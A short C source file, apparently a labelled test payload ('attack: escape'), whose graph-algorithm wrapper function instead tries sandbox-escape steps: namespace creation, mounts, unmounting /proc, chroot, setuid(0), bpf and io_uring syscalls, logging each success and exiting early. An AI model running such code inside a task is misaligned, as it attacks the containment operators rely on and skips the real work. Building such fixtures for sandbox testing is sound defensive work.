// attack: escape
// root: host
// what: makes namespaces, mounts, changes the root and asks for capabilities
// list: 12
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) fputs("handshake_seen unshare\n", stderr);
  if (mount("none", "/box", "tmpfs", 0, nullptr) == 0) fputs("handshake_seen mount\n", stderr);
  if (umount2("/proc", MNT_DETACH) == 0) fputs("handshake_seen umount\n", stderr);
  if (chroot("/box") == 0) fputs("handshake_seen chroot\n", stderr);
  if (setuid(0) == 0) fputs("handshake_seen root\n", stderr);
  if (syscall(SYS_bpf, 0, 0, 0) >= 0) fputs("handshake_seen bpf\n", stderr);
  if (syscall(425, 8, nullptr) >= 0) fputs("handshake_seen io_uring\n", stderr);
  _exit(0);
}
